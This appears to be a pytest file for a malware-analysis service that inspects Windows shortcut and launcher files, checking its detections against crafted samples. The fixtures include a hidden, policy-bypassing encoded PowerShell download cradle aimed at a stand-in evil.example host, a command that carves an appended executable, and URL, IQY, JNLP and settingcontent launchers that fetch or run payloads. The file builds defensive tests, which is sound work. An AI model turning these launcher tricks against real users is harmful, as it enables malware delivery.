"""The shortcut service on a .lnk built here and on .url, .iqy, .settingcontent-ms and .jnlp texts."""

from __future__ import annotations

import pytest

from formats import make_lnk
from dispatcher.identify import identify
from services.sdk.harness import run_service_once


def run(data: bytes):
    file_type = identify(data)
    assert file_type.startswith("shortcut/")
    outcome = run_service_once("shortcut", data, file_type=file_type, name="sample")
    assert outcome.result.error is None
    assert "Result warnings" not in {s.title for s in outcome.result.sections}
    return outcome


def test_lnk_target_arguments_machine_and_lolbin():
    data = make_lnk(r"C:\Windows\System32\cmd.exe", "/c calc.exe -testCommands", r"C:\Windows",
                    r"C:\Program Files\Adobe\Acrobat.exe,0", "desktop-7x1k2", "Invoice")
    out = run(data)
    assert out.tags("file.shortcut.command_line") == {r"C:\Windows\System32\cmd.exe /c calc.exe -testCommands"}
    assert out.tags("file.shortcut.machine_id") == {"desktop-7x1k2"}
    assert {1, 2, 5} <= out.heuristics
    assert "calc.exe -testCommands" in out.section("Shortcut").body


def test_lnk_obfuscated_powershell_with_a_web_target():
    args = "-w hidden -ep bypass -enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" + " " * 60 \
        + " https://dl.evil.example/stage.ps1"
    out = run(make_lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", args))
    assert {2, 3, 4} <= out.heuristics
    assert "encoded PowerShell command" in out.section("Long or obfuscated").body
    assert [r.ref.name for r in out.related] == ["https://dl.evil.example/stage.ps1"]


def test_payload_appended_to_a_lnk_is_extracted():
    payload = b"MZ" + bytes(300)
    out = run(make_lnk(r"C:\Windows\System32\cmd.exe", '/c findstr /b "MZ" %0 > %tmp%\\x.exe') + payload)
    assert [e.data for e in out.extracted] == [payload]
    assert 7 in out.heuristics


def test_truncated_lnk_is_reported_not_a_crash():
    out = run(make_lnk(r"C:\x.exe", "a" * 100)[:90])
    assert out.result.error is None


@pytest.mark.parametrize("text, heuristic, target", [
    (b"[InternetShortcut]\r\nURL=file://\\\\203.0.113.5@80\\share\\invoice.exe\r\nIconFile=C:\\doc.pdf\r\n", None,
     "file://\\\\203.0.113.5@80\\share\\invoice.exe"),
    (b"[InternetShortcut]\r\nURL=https://evil.example/dl/update.hta\r\n", 4, "https://evil.example/dl/update.hta"),
    (b"WEB\r\n1\r\nhttps://evil.example/q.php?id=1\r\n", 4, "https://evil.example/q.php?id=1"),
    (b'<?xml version="1.0" encoding="UTF-8"?>\n<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">'
     b"<ApplicationInformation><AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>"
     b"<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", 2,
     "%windir%\\system32\\cmd.exe /c calc.exe"),
    (b'<?xml version="1.0" encoding="utf-8"?>\n<jnlp spec="1.0+" codebase="http://evil.example/app">'
     b'<resources><jar href="payload.jar" main="true"/></resources><application-desc main-class="a.Main"/></jnlp>', 4,
     "http://evil.example/app/payload.jar"),
], ids=["url-file-unc", "url-web", "iqy", "settingcontent", "jnlp"])
def test_launchers_targets(text, heuristic, target):
    out = run(text)
    assert target in out.result.sections[0].body
    if heuristic:
        assert heuristic in out.heuristics
    if target.startswith("http"):
        assert target in out.tags("network.static.uri")
        assert target in [r.ref.name for r in out.related]
